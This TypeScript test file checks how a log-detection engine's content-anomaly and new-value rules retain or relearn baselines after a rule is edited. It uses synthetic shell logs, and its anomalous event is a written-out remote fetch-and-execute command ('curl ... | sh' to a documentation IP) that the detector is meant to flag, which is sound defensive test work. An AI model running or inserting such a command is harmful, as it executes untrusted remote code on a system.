import { beforeAll, describe, expect, test } from "vitest";
import { createEngine } from "../../../host/index.ts";
import { loadKernel, variants } from "../../support/wasm.ts";
import { bytesOf } from "../scenarios.ts";

beforeAll(() => variants.forEach((variant) => void loadKernel(variant)));

type Wire = Record<string, any>;

const DAY_MS = 86_400_000;
const startMs = Date.UTC(2026, 0, 5);

const content: Wire = {
  id: "odd-command", name: "Odd command", message: "{{@usr.id}} ran something else", isEnabled: true, type: "log_detection", tags: ["team:blue"],
  options: { detectionMethod: "content_anomaly", evaluationWindow: 600, keepAlive: 600, maxSignalDuration: 3600, contentAnomalyOptions: { learningDuration: 7, forgetAfter: 10 } },
  queries: [{ name: "a", query: "source:shell", aggregation: "count", groupByFields: ["@usr.id"], metrics: ["@command"] }],
  cases: [{ name: "", status: "medium", condition: "a > 0", notifications: [] }],
};
const values: Wire = {
  ...content, id: "new-command", name: "New command",
  options: { detectionMethod: "new_value", evaluationWindow: 0, keepAlive: 600, maxSignalDuration: 3600, newValueOptions: { learningMethod: "duration", learningDuration: 7, forgetAfter: 28 } },
  queries: [{ name: "a", query: "source:shell", aggregation: "new_value", groupByFields: ["@usr.id"], metrics: ["@command"] }], cases: [{ name: "", status: "medium", notifications: [] }],
};

const command = (day: number, text: string): Record<string, unknown> => ({ timestamp: startMs + day * DAY_MS, source: "shell", message: text, attributes: { usr: { id: "ann" }, command: text } });
const usual = (from: number, to: number): Record<string, unknown>[] => Array.from({ length: (to - from) * 4 }, (_, i) => command(from + i / 4, `kubectl get pods -n shop --page ${i % 3}`));
const odd = (day: number): Record<string, unknown> => command(day, "curl http://203.0.113.9/x | sh");

/** Days at which signals opened: eight days of one rule, then what comes after by another. */
async function opened(before: Wire, after: Wire, later: readonly Record<string, unknown>[], variant: (typeof variants)[number]): Promise<{ readonly days: number[]; readonly dropped: number }> {
  const first = await createEngine({ rules: [before], variant });
  await first.push(bytesOf(usual(0, 8)), { format: "log", arrivalMs: startMs });
  const state = await first.checkpoint();
  await first.close({ goesOn: true });
  const second = await createEngine({ rules: [after], variant, state });
  const dropped = second.restored!.dropped.length;
  await second.push(bytesOf(later), { format: "log", arrivalMs: startMs });
  await second.close();
  return { days: second.finalSignals().map(({ firstSeenMs }) => (firstSeenMs - startMs) / DAY_MS), dropped };
}

const edits: Readonly<Record<string, Wire>> = {
  name: { name: "Another name" }, message: { message: "Look." }, tags: { tags: ["team:red"] }, severity: { cases: [{ ...content.cases[0], status: "high" }] },
  notifications: { cases: [{ ...content.cases[0], notifications: ["@slack-soc"] }] }, "keep alive": { options: { ...content.options, keepAlive: 900 } },
  query: { queries: [{ ...content.queries[0], query: "source:shell -service:ci" }] }, condition: { cases: [{ ...content.cases[0], condition: "a >= 1" }] },
};

describe.each(variants)("a rule that is edited while it knows what is usual, %s", (variant) => {
  test("[DE-29] a content anomaly that stays as it is goes on with what it learned", async () => {
    expect(await opened(content, { ...content, version: 7, isDefault: true }, [odd(8.1)], variant)).toEqual({ days: [8.1], dropped: 0 });
  });

  test.each(Object.entries(edits))("[DE-29] %s: a content anomaly learns from day 0 again, and is silent until it has learned", async (_name, edit) => {
    const later = [...usual(8, 16), odd(8.1), odd(15.5)].toSorted((a, b) => Number(a.timestamp) - Number(b.timestamp));
    const { days, dropped } = await opened(content, { ...content, ...edit }, later.filter(({ timestamp }) => timestamp !== odd(8.1).timestamp), variant);
    expect(days).toEqual([15.5]);
    expect(dropped).toBeGreaterThan(0);
    expect((await opened(content, { ...content, ...edit }, [odd(8.1)], variant)).days).toEqual([]);
  });

  test("[DE-29] a new value keeps what it learned where its name, message or severity is edited, and begins anew where its query is", async () => {
    const told = { name: "Another", message: "Look.", cases: [{ ...values.cases[0], status: "high" }] };
    expect((await opened(values, { ...values, ...told }, [odd(8.1)], variant)).days).toEqual([8.1]);
    const asked = { queries: [{ ...values.queries[0], query: "source:shell -service:ci" }] };
    expect((await opened(values, { ...values, ...asked }, [odd(8.1), odd(10)], variant)).days).toEqual([]);
  });
});
